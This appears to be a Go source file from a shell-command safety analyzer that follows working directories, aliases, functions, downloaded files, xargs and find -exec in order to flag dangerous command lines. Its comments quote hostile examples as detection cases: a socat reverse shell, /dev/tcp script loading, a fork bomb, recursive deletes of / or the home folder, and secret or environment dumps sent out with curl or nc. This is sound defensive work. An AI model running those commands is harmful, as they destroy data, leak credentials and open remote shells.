package shell

import (
	"encoding/base64"
	"path"
	"strconv"
	"strings"

	"github.com/added060/palisade/plugins/internal/lazyre"

	"mvdan.cc/sh/v3/syntax"
)

// This file holds what makes a line a small program rather than a list of commands: the
// working directory cd sets, aliases and functions defined then called, files written or
// downloaded then run, and paths a pipe feeds to xargs.

// chdir follows `cd t`.
func (a *analyzer) chdir(t string) {
	switch {
	case t == "-" || a.cwd == "?":
		a.cwd = "?"
	case strings.HasPrefix(t, "/"):
		a.cwd = path.Clean(t)
	case home(t):
		a.cwd = path.Clean("~" + strings.TrimPrefix(strings.TrimPrefix(strings.TrimPrefix(t, "~"), "${HOME}"), "$HOME"))
	default:
		a.cwd = a.resolve(t)
		if a.cwd == "." {
			a.cwd = ""
		}
	}
}

func home(t string) bool {
	return strings.HasPrefix(t, "~") || strings.HasPrefix(t, "$HOME") || strings.HasPrefix(t, "${HOME}")
}

// resolve returns t as seen from the project directory: a relative path joined to the
// working directory cd set. Absolute, home and unknown-directory paths are returned as is.
func (a *analyzer) resolve(t string) string {
	if rest, ok := pwdRest(t); ok && a.cwd != "?" {
		// $PWD and `$(pwd)` are the working directory (`rm -rf "$PWD/.."`).
		if a.cwd == "" {
			return path.Clean("." + rest)
		}
		return path.Join(a.cwd, rest)
	}
	if a.cwd == "" || a.cwd == "?" || t == "" || strings.HasPrefix(t, "/") || home(t) || strings.HasPrefix(t, "$") {
		return t
	}
	j := path.Join(a.cwd, t)
	if strings.HasPrefix(a.cwd, "~") && !strings.HasPrefix(j, "~") {
		return "/home" // climbed out of the home directory
	}
	return j
}

// pwdRest returns what follows a leading $PWD, ${PWD} (or `$(pwd)`, which subst spells
// $PWD) in t, and whether t starts with one.
func pwdRest(t string) (string, bool) {
	for _, p := range []string{"${PWD}", "$PWD"} {
		if rest, ok := strings.CutPrefix(t, p); ok && (rest == "" || rest[0] == '/') {
			return rest, true
		}
	}
	return "", false
}

// outsideAt is outside for an operand t of a command run in the working directory cd set.
// A path that only reaches outside through cd counts when it is near a root: the root or a
// system directory and its direct children (`cd /etc && rm passwd`, `cd / && rm -rf *`), the
// home directory and its direct children (`cd ~ && rm -rf .`), secrets and history, or a climb
// out of the project. `cd ~/src/app && rm -rf build` is another project's build, not a home.
func (a *analyzer) outsideAt(t string, rec bool) bool {
	r := a.resolve(t)
	if r == t {
		return outside(t, rec)
	}
	if secretFile(r) || historyFile.MatchString(r) {
		return true
	}
	c := path.Clean(r)
	switch {
	case home(c) || userDir.MatchString(c):
		rel := userDir.ReplaceAllString(c, "~")
		return strings.Count(strings.TrimRight(rel, "/"), "/") <= 1 && (rec || rel == "~")
	case strings.HasPrefix(c, "/"):
		for _, p := range []string{"/tmp/", "/var/tmp/", "/dev/shm/"} {
			if strings.HasPrefix(c, p) {
				return false
			}
		}
		if strings.ContainsAny(path.Base(c), "*?[") {
			// a glob's files are its folder's contents: `cd /var/lib && rm -rf *` empties
			// /var/lib (issue 26, det59: it was judged as one name two folders deep)
			d := path.Dir(c)
			if d == "/" || systemDir.MatchString(d) && strings.Count(d, "/") <= 2 {
				return true
			}
		}
		return c == "/" || c == "/*" || privFile.MatchString(c) || systemDir.MatchString(c) && strings.Count(c, "/") <= 2 ||
			reProgramDir.MatchString(c)
	}
	return outside(r, rec)
}

// reProgramDir matches one folder straight under /var/lib or /opt, one program's whole
// state or install (programFolder asks about it; the system's own records are refused).
var reProgramDir = lazyre.New(`^/(var/lib|opt)/[^/]+$`)

// userDir matches a home directory written out (/home/me, /Users/me, /root).
var userDir = lazyre.New(`^(/home/[^/]+|/Users/[^/]+|/root|\$HOME|\$\{HOME\})`)

// fileKey names a file the same way whether it was written as "./a.sh", "a.sh" or after cd.
func (a *analyzer) fileKey(f string) string {
	return path.Clean(a.resolve(f))
}

// defined runs what the line defined earlier under argv[0]: an alias, a function, a script it
// wrote, or a file it downloaded. It reports whether argv was handled that way.
func (a *analyzer) defined(argv []string, line string) bool {
	name := argv[0]
	if v, ok := a.aliases[name]; ok {
		delete(a.aliases, name) // bash does not expand an alias inside itself
		text := v
		for _, x := range argv[1:] {
			q, err := syntax.Quote(x, syntax.LangBash)
			if err != nil {
				q = "''"
			}
			text += " " + q
		}
		a.line(text, a.depth+1)
		a.aliases[name] = v
		return true
	}
	if body, ok := a.funcs[name]; ok {
		if a.calling[name] {
			// A call of a function from inside itself runs the body already being judged
			// on this path: judged again it only repeats, two calls a level doubling the
			// work (`:(){ :|:& };:` took the whole work budget). A reviewer asks about
			// recursion in a one-liner; the classic fork bomb is also a rule of its own.
			a.ask("exec/recursive_function", "a function that calls itself (a fork bomb runs itself in the background until the machine stops)", line, 0.9)
			return true
		}
		if a.depth+1 > MaxDepth {
			a.res.Incomplete = true
			return true
		}
		if a.calling == nil {
			a.calling = map[string]bool{}
		}
		params, depth := a.params, a.depth
		a.params, a.depth, a.calling[name] = append([]string{}, argv[1:]...), a.depth+1, true
		a.stmt(body)
		a.params, a.depth = params, depth
		delete(a.calling, name)
		return true
	}
	if strings.Contains(name, "/") {
		if !a.runScript(name, "sh", line) {
			return false
		}
		if a.fetched[a.fileKey(name)] && base(name) != "" {
			// A program downloaded on the line and run is also judged by what its name
			// and arguments ask of it (`/tmp/socat exec:'bash -li' tcp:IP:PORT`, a static
			// socat fetched over https: a reverse shell whatever its source; det46).
			a.command(append([]string{base(name)}, argv[1:]...))
		}
		return true
	}
	// A program downloaded on the line into a folder on PATH and run by its name (`curl -L
	// URL -o ~/.local/bin/tool && chmod +x ~/.local/bin/tool && tool --version`): the same
	// file run by its path.
	for _, d := range pathBinDirs {
		if f := d + "/" + name; a.fetched[a.fileKey(f)] {
			return a.runScript(f, "sh", line)
		}
	}
	return false
}

// pathBinDirs are folders commonly on PATH that a user's download lands in.
var pathBinDirs = []string{"$HOME/.local/bin", "$HOME/bin", "$HOME/go/bin", "$HOME/.cargo/bin", "/usr/local/bin", "/usr/bin", "/opt/homebrew/bin"}

// runScript judges running file f with an interpreter of language lang ("sh" for a shell):
// a file downloaded earlier on the line is download-and-run; one the line wrote is analysed.
func (a *analyzer) runScript(f, lang, line string) bool {
	if devTCP(f) {
		// bash's network paths as the script (`source /dev/tcp/HOST/PORT`, `bash
		// /dev/udp/…`): the interpreter runs whatever the other end sends.
		a.add("exec/download_run", "runs a script read from a network connection", line, 0.95)
		return true
	}
	k := a.fileKey(f)
	if a.fetched[k] {
		if a.httpsFile[k] {
			// A script fetched over https from a named host saved, then run (`curl -fsSL -o
			// get_helm.sh https://raw.githubusercontent.com/helm/helm/main/scripts/get-helm-3
			// && chmod 700 get_helm.sh && ./get_helm.sh`, Helm's documented install): what the
			// same script piped into sh is, a question; text the line adds to it is judged too.
			a.ask("exec/https_script", "runs a file fetched over https from a named host", line, 0.9)
			if text, ok := a.written[k]; ok && lang == "sh" {
				a.line(text, a.depth+1)
			}
		} else {
			a.add("exec/download_run", "runs a file downloaded earlier on the line", line, 0.95)
		}
		return true
	}
	text, ok := a.written[k]
	if !ok {
		return false
	}
	if lang == "sh" {
		a.line(text, a.depth+1)
	} else {
		a.code(lang, text, line)
	}
	return true
}

// writes records what a command writes into a file through a redirect: the text of echo,
// printf or a heredoc (cat, tee), or a download (curl URL > f). It also records the files a
// download command writes itself (curl -o, wget -O).
func (a *analyzer) writes(argv []string, redirs []*syntax.Redirect) {
	a.noteArchive(argv) // exfil.go
	// `sudo curl -o /usr/local/bin/t URL` downloads as root: the same file (det65).
	run := unwrapRoot(argv)
	name := base(first(run))
	https := fetcher(name) && httpsFetch(name, run[1:])
	for _, f := range fetchedFiles(name, run[1:]) {
		a.markFetched(f, https)
	}
	var text string
	have := false
	switch name {
	case "echo":
		text, have = echoText(argv[1:])+"\n", true
	case "printf":
		text, have = printfText(argv[1:]), true
	case "cat", "tee":
		for _, r := range redirs {
			if (r.Op == syntax.Hdoc || r.Op == syntax.DashHdoc) && r.Hdoc != nil {
				text, have = a.literal(r.Hdoc), true
			}
		}
	}
	for _, t := range a.outputFiles(run, redirs) {
		if held := heldSecret(run, text, have); held != "" && t != "/dev/null" {
			// `env > /tmp/e`, `echo "$TOKEN" > k`: what the file holds (gitConfigSent; det70)
			if a.archives == nil {
				a.archives = map[string]string{}
			}
			a.archives[a.fileKey(t)] = held
		}
		if fetcher(name) {
			a.markFetched(t, https)
			continue
		}
		if !have {
			continue
		}
		if a.written == nil {
			a.written = map[string]string{}
		}
		k := a.fileKey(t)
		if len(a.written[k]) < MaxParseBytes {
			a.written[k] += text
		}
	}
}

// printsEnv reports whether a subshell's or a block's statements print the environment, or
// part of it, to the block's own output: env, printenv, set, `export -p` (declDump), or a
// pipeline of them through filters (envPipe), at any place in a list (`(date; env)`). A
// statement that redirects its own output elsewhere (`(env > x; date)`) prints nothing there.
func (a *analyzer) printsEnv(stmts []*syntax.Stmt) bool {
	for _, st := range stmts {
		if len(a.outputFiles(nil, st.Redirs)) > 0 {
			continue
		}
		switch c := st.Cmd.(type) {
		case *syntax.CallExpr:
			if envStage(unwrapRoot(a.fields(c.Args)), false) {
				return true
			}
		case *syntax.DeclClause:
			if declDump(c) {
				return true
			}
		case *syntax.BinaryCmd:
			if c.Op == syntax.Pipe || c.Op == syntax.PipeAll {
				if a.envPipe(pipeline(c)) {
					return true
				}
			} else if a.printsEnv([]*syntax.Stmt{c.X, c.Y}) {
				return true
			}
		case *syntax.Subshell:
			if a.printsEnv(c.Stmts) {
				return true
			}
		case *syntax.Block:
			if a.printsEnv(c.Stmts) {
				return true
			}
		}
	}
	return false
}

// envWritten records the files a command that prints the environment, or part of it, writes
// (argv is that command, nil for a declaration builtin): `env | sort > e`, `printenv | grep -v
// PATH | tee e`, `export -p > e`, `declare -x >> e`. Sent later (`curl -d @e`, `nc H P < e`),
// such a file is the environment sent (gitConfigSent, exfil.go), as `env > e` is (writes).
func (a *analyzer) envWritten(argv []string, redirs []*syntax.Redirect) {
	for _, t := range a.outputFiles(argv, redirs) {
		if t == "/dev/null" {
			continue
		}
		if a.archives == nil {
			a.archives = map[string]string{}
		}
		a.archives[a.fileKey(t)] = "env"
	}
}

// outputFiles returns the files a command (argv) writes what it prints into: its output
// redirects' targets (`>`, `>>`, `>|`, `&>`, `&>>`) and, for tee, its operands.
func (a *analyzer) outputFiles(argv []string, redirs []*syntax.Redirect) []string {
	var targets []string
	if base(first(argv)) == "tee" {
		targets = operands(argv[1:])
	}
	for _, r := range redirs {
		switch r.Op {
		case syntax.RdrOut, syntax.AppOut, syntax.ClbOut, syntax.RdrAll, syntax.AppAll:
			if r.Word != nil {
				targets = append(targets, a.literal(r.Word))
			}
		}
	}
	return targets
}

// heldSecret returns what a command (run) writes into its redirect's file when that is the
// environment ("env": env, printenv, `export -p`) or one secret variable's value ("secret:"
// and the variable's name: echo or printf of `$AWS_SECRET_ACCESS_KEY`, `printenv GITHUB_TOKEN`;
// text is what echo or printf printed), "" otherwise.
func heldSecret(run []string, text string, have bool) string {
	if envStage(run, false) {
		return "env"
	}
	if v := printedSecret(run, text, have); v != "" {
		return "secret:" + v
	}
	return ""
}

// printedSecret returns the name of the secret variable a command prints: echo or printf of
// one (text is what it printed), or printenv given its name; "" otherwise.
func printedSecret(run []string, text string, have bool) string {
	name := base(first(run))
	switch {
	case (name == "echo" || name == "printf" || name == "cat") && have:
		return strings.Trim(secretName.FindString(text), "${")
	case name == "printenv" && len(run) > 1 && secretName.MatchString("$"+run[1]):
		return run[1]
	}
	return ""
}

// markFetched records that the line downloads into f; https says the download is over https
// from a named host (httpsFetch). A file counts as such only while every download into it does.
func (a *analyzer) markFetched(f string, https bool) {
	if a.fetched == nil {
		a.fetched = map[string]bool{}
		a.httpsFile = map[string]bool{}
	}
	k := a.fileKey(f)
	a.httpsFile[k] = https && (a.httpsFile[k] || !a.fetched[k])
	a.fetched[k] = true
}

// fetchedFiles returns the files a download command saves: curl -o f / -O, wget -O f or the
// URL's last path element.
func fetchedFiles(name string, args []string) []string {
	if !fetcher(name) {
		return nil
	}
	var out []string
	var urls []string
	named := false
	remote := false
	for i := 0; i < len(args); i++ {
		x := args[i]
		switch {
		case (name == "curl" && (x == "--output" || strings.HasPrefix(x, "-") && !strings.HasPrefix(x, "--") && strings.HasSuffix(x, "o"))) ||
			(name == "wget" && (x == "-O" || x == "--output-document" || strings.HasPrefix(x, "-") && !strings.HasPrefix(x, "--") && strings.HasSuffix(x, "O"))):
			if i+1 < len(args) && args[i+1] != "-" {
				out = append(out, args[i+1])
			}
			named = true
			i++
		case name == "curl" && (x == "-O" || x == "--remote-name" || strings.HasPrefix(x, "-") && !strings.HasPrefix(x, "--") && strings.HasSuffix(x, "O")):
			remote = true
		case strings.Contains(x, "://"):
			urls = append(urls, x)
		}
	}
	if remote || name == "wget" && !named {
		for _, u := range urls {
			u, _, _ = strings.Cut(u, "?")
			if b := path.Base(u); b != "" && b != "/" && !strings.Contains(b, ":") {
				out = append(out, b)
			}
		}
	}
	return out
}

// heredocRun analyses a heredoc fed to an interpreter that reads its program from stdin
// (`bash <<EOF`, `python3 - <<'EOF'`).
func (a *analyzer) heredocRun(argv []string, redirs []*syntax.Redirect) {
	argv = unwrap(argv)
	if len(argv) == 0 {
		return
	}
	name := base(argv[0])
	if !interpreter(name) || runsFile(name, argv[1:]) {
		return
	}
	for _, r := range redirs {
		if (r.Op == syntax.Hdoc || r.Op == syntax.DashHdoc || r.Op == syntax.WordHdoc) && (r.Hdoc != nil || r.Word != nil) {
			w := r.Hdoc
			if r.Op == syntax.WordHdoc {
				w = r.Word
			}
			text := a.literal(w)
			lang := strings.TrimRight(name, "0123456789.")
			switch lang {
			case "sh", "bash", "zsh", "dash", "ksh", "ash", "fish", "source", ".":
				a.line(text, a.depth+1)
			default:
				a.code(lang, text, strings.Join(argv, " "))
			}
		}
	}
}

// lists returns the paths a pipeline stage prints, one per line, for a later xargs: echo and
// printf print their words, find the trees under its start points (rec), ls its operands.
func (a *analyzer) lists(name string, args []string) (paths []string, rec bool) {
	switch name {
	case "echo":
		return strings.Fields(echoText(args)), false
	case "printf":
		return strings.Fields(printfText(args)), false
	case "find":
		// -follow, -L and -H have find descend symbolic links (find(1)), which in a shared
		// temporary folder may point anywhere.
		follows := hasFlag(args, "-follow", "-L", "-H")
		for _, x := range findArgs(args) {
			if strings.HasPrefix(x, "-") || x == "(" || x == "!" {
				break
			}
			r := a.resolve(x)
			if c := path.Clean(r); !follows && (c == "/tmp" || c == "/var/tmp" || c == "/dev/shm") {
				// What find lists under a temporary folder is its content, as
				// `find /tmp … -delete` and `rm -rf /tmp/*` delete it (find(1)'s
				// `find /tmp -name core -type f -print | xargs /bin/rm -f`; issue 26,
				// seventh round).
				r = c + "/*"
			}
			paths = append(paths, r)
		}
		if len(paths) == 0 {
			paths = []string{a.resolve(".")}
		}
		// A name test that names secrets or keys (`find ~ -name '*.pem'`, `-name id_rsa`):
		// what find lists is those files, which the command it feeds is judged on too (the
		// start points alone name only folders). They come first: what find prints first is
		// a file it found, not a start point, which `${f[0]}` of an array mapfile filled
		// from it names (det67).
		var found []string
		for i, x := range args {
			if (x == "-name" || x == "-iname" || x == "-path" || x == "-ipath" || x == "-wholename") && i+1 < len(args) {
				if pat := args[i+1]; secretFile(pat) || keyFile.MatchString(pat) {
					for _, p := range paths {
						found = append(found, path.Join(p, "**", strings.TrimPrefix(pat, "*/")))
					}
				}
			}
		}
		return append(found, paths...), true
	case "ls":
		for _, x := range operands(args) {
			paths = append(paths, a.resolve(x))
		}
		return paths, false
	}
	return nil, false
}

// xargs judges `... | xargs [opts] cmd args` as cmd run on the paths the pipe fed it.
func (a *analyzer) xargs(args, feed []string, rec bool) {
	rest, repl := xargsCommand(args)
	cmd := unwrap(rest)
	if len(cmd) == 0 {
		cmd = []string{"echo"}
	}
	var argv []string
	if repl != "" {
		for _, p := range feed {
			argv = argv[:0]
			for _, x := range cmd {
				argv = append(argv, strings.ReplaceAll(x, repl, p))
			}
			a.fed(argv, rec)
		}
		return
	}
	argv = append(append(argv, cmd...), feed...)
	a.fed(argv, rec)
}

// findExec judges the commands find's -exec, -execdir, -ok and -okdir run (up to `;` or `+`)
// as run on what find lists, `{}` replaced by each path (find(1)): `find . -maxdepth 0 -exec
// rm -rf ~ \;` deletes the home folder whatever find found. An rm or shred of `{}` alone was
// judged on find's start points above (destroy/find_delete); their other operands are judged
// here.
func (a *analyzer) findExec(args []string) {
	var feed []string
	for i := 0; i < len(args); i++ {
		switch args[i] {
		case "-exec", "-execdir", "-ok", "-okdir":
		default:
			continue
		}
		j := i + 1
		for j < len(args) && args[j] != ";" && args[j] != "+" {
			j++
		}
		cmd := unwrap(args[i+1 : j])
		i = j
		if len(cmd) == 0 {
			continue
		}
		if n := base(cmd[0]); n == "rm" || n == "shred" {
			var rest []string
			for _, x := range cmd {
				if !strings.Contains(x, "{}") {
					rest = append(rest, x)
				}
			}
			if len(operands(rest[1:])) > 0 {
				a.fed(rest, true)
			}
			continue
		}
		if feed == nil {
			feed, _ = a.lists("find", args)
		}
		for _, p := range feed {
			argv := make([]string, len(cmd))
			for k, x := range cmd {
				argv[k] = strings.ReplaceAll(x, "{}", p)
			}
			a.fed(argv, true)
		}
	}
}

// xargsCommand splits xargs' arguments into the command it runs and the -I replacement string:
// options are dropped with their values (`-n 1`, `-a FILE`, `-I {}`), so a value is never
// taken for the command (`xargs -a /dev/null sh -c …`).
func xargsCommand(args []string) (cmd []string, repl string) {
	i := 0
	for ; i < len(args) && strings.HasPrefix(args[i], "-"); i++ {
		switch x := args[i]; {
		case x == "-I":
			if i+1 < len(args) {
				repl = args[i+1]
				i++
			}
		case strings.HasPrefix(x, "-I") && len(x) > 2:
			repl = x[2:]
		case x == "-n" || x == "-P" || x == "-L" || x == "-d" || x == "-E" || x == "-s" || x == "-a" ||
			x == "--arg-file" || x == "--delimiter" || x == "--max-args" || x == "--max-procs":
			i++
		}
	}
	return args[min(i, len(args)):], repl
}

func (a *analyzer) fed(argv []string, rec bool) {
	saved, feeding := a.feedRec, a.feeding
	a.feedRec, a.feeding = rec, true
	a.command(append([]string(nil), argv...))
	a.feedRec, a.feeding = saved, feeding
}

// decoded returns the text `echo X | base64 -d` prints, for a command substitution.
func (a *analyzer) decoded(stages []*syntax.Stmt) (string, bool) {
	if len(stages) != 2 {
		return "", false
	}
	var argvs [2][]string
	for i, st := range stages {
		ce, ok := st.Cmd.(*syntax.CallExpr)
		if !ok {
			return "", false
		}
		argvs[i] = a.fields(ce.Args)
	}
	if len(argvs[0]) < 2 || len(argvs[1]) == 0 {
		return "", false
	}
	var in string
	switch base(argvs[0][0]) {
	case "echo":
		in = echoText(argvs[0][1:])
	case "printf":
		in = printfText(argvs[0][1:])
	default:
		return "", false
	}
	return decodeText(argvs[1], in)
}

// decodeText returns what argv (base64 -d, rev) prints given in on its standard input.
func decodeText(argv []string, in string) (string, bool) {
	if len(argv) == 0 {
		return "", false
	}
	switch base(argv[0]) {
	case "base64":
		if !hasFlag(argv[1:], "-d", "--decode", "-D") {
			return "", false
		}
		b, err := base64.StdEncoding.DecodeString(strings.TrimSpace(in))
		if err != nil {
			return "", false
		}
		return string(b), true
	case "rev":
		r := []rune(in)
		for i, j := 0, len(r)-1; i < j; i, j = i+1, j-1 {
			r[i], r[j] = r[j], r[i]
		}
		return string(r), true
	}
	return "", false
}

// echoText is what echo prints (without the newline): -n, -e and -E are options, and -e
// turns backslash escapes on.
func echoText(args []string) string {
	esc := false
	for len(args) > 0 && len(args[0]) > 1 && args[0][0] == '-' && strings.Trim(args[0][1:], "neE") == "" {
		esc = esc || strings.Contains(args[0], "e")
		args = args[1:]
	}
	s := strings.Join(args, " ")
	if esc {
		s = unescape(s)
	}
	return s
}

// printfText is what printf prints: the format with %s, %b, %c, %d filled from the
// arguments (the format reused while arguments remain) and backslash escapes resolved.
func printfText(args []string) string {
	if len(args) > 0 && args[0] == "--" {
		args = args[1:]
	}
	if len(args) >= 2 && args[0] == "-v" {
		return "" // assigns a variable, prints nothing
	}
	if len(args) == 0 {
		return ""
	}
	format, rest := unescape(args[0]), args[1:]
	var b strings.Builder
	for n := 0; n < 64; n++ {
		used := false
		for i := 0; i < len(format); i++ {
			c := format[i]
			if c != '%' || i+1 >= len(format) {
				b.WriteByte(c)
				continue
			}
			i++
			for i < len(format) && strings.IndexByte("-+ #0123456789.", format[i]) >= 0 {
				i++
			}
			if i >= len(format) {
				break
			}
			verb := format[i]
			if verb == '%' {
				b.WriteByte('%')
				continue
			}
			arg := ""
			if len(rest) > 0 {
				arg, rest, used = rest[0], rest[1:], true
			}
			switch verb {
			case 'b':
				b.WriteString(unescape(arg))
			case 'c':
				if arg != "" {
					b.WriteByte(arg[0])
				}
			default:
				b.WriteString(arg)
			}
		}
		if !used || len(rest) == 0 {
			break
		}
	}
	return b.String()
}

// unescape resolves the backslash escapes of echo -e and printf: \n \t \\ \xHH \0NNN \NNN.
func unescape(s string) string {
	if !strings.Contains(s, `\`) {
		return s
	}
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		if s[i] != '\\' || i+1 >= len(s) {
			b.WriteByte(s[i])
			continue
		}
		i++
		switch c := s[i]; c {
		case 'n':
			b.WriteByte('\n')
		case 't':
			b.WriteByte('\t')
		case '\\':
			b.WriteByte('\\')
		case 'x':
			j := i + 1
			for j < len(s) && j < i+3 && strings.IndexByte("0123456789abcdefABCDEF", s[j]) >= 0 {
				j++
			}
			if v, err := strconv.ParseUint(s[i+1:j], 16, 8); err == nil {
				b.WriteByte(byte(v))
				i = j - 1
			} else {
				b.WriteString(`\x`)
			}
		case '0', '1', '2', '3', '4', '5', '6', '7':
			j := i
			if c == '0' {
				j++
			}
			k := j
			for k < len(s) && k < j+3 && s[k] >= '0' && s[k] <= '7' {
				k++
			}
			if v, err := strconv.ParseUint(s[j:k], 8, 8); err == nil {
				b.WriteByte(byte(v))
			}
			i = k - 1
		default:
			b.WriteByte('\\')
			b.WriteByte(c)
		}
	}
	return b.String()
}

// findArgs drops the options find takes before its start points (find(1): -H, -L, -P, -D
// debugopts, -Olevel), so that the start points come first: `find -L / -delete` starts at /.
func findArgs(args []string) []string {
	for len(args) > 0 && (args[0] == "-H" || args[0] == "-L" || args[0] == "-P" || args[0] == "-D" || strings.HasPrefix(args[0], "-O")) {
		if args[0] == "-D" && len(args) > 1 {
			args = args[1:]
		}
		args = args[1:]
	}
	return args
}
